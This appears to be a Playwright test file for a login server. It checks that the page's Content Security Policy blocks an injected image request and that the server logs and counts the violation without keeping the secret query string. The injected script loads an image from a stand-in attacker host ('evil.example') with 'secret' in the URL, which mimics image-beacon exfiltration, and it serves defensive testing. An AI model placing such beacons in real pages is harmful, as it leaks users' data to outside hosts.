"""A browser tells of what the policy of a page held back. CSP3-5.3, UX row Q05."""

import httpx2
from playwright.sync_api import Page

from ..server import Server
from ..waiting import until

_LOADED = """() => {
  const image = document.createElement("img");
  image.src = "https://evil.example/x.png?secret";
  document.body.append(image);
}"""


def test_a_browser_tells_of_what_was_held_back(server: Server, page: Page) -> None:
    page.goto(f"{server.url}/oauth2/login")
    page.evaluate(_LOADED)
    counted = 'keycell_csp_reports_total{directive="img-src"} 1.0'
    until(lambda: counted in httpx2.get(f"{server.url}/metrics").text)
    said = server.log.read_text()
    assert "https://evil.example/x.png" in said
    assert "secret" not in said
    # Any other journey would have failed by this.
    assert [line for line in server.held_back() if "img-src" in line]
